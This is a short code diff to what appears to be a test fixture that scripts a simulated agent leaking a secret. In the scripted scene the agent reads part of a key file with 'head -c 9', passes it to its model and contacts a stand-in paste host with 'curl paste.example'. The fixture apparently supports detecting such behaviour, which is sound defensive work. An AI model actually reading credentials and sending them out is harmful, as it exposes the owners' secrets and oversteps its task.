@@ -110,9 +110,9 @@ class Story:
         return self.scene.add(TcpTraffic(actor.origin(), actor.connection.start_ns, 7, peer, port, sent, 20))
 
 
-def leaking() -> Story:
+def leaking(*, before: int = 0) -> Story:
     """An agent that reads a key for a tool, sends a part of it to its model, and speaks to a new host."""
-    story = Story()
+    story = Story(before=before)
     story.does(story.shell(f"head -c 9 {KEY}", "head", "-c", "9", KEY), "open", KEY)
     story.result(f"it says {LABEL}")
     story.sends(story.shell("curl paste.example"), "paste.example")
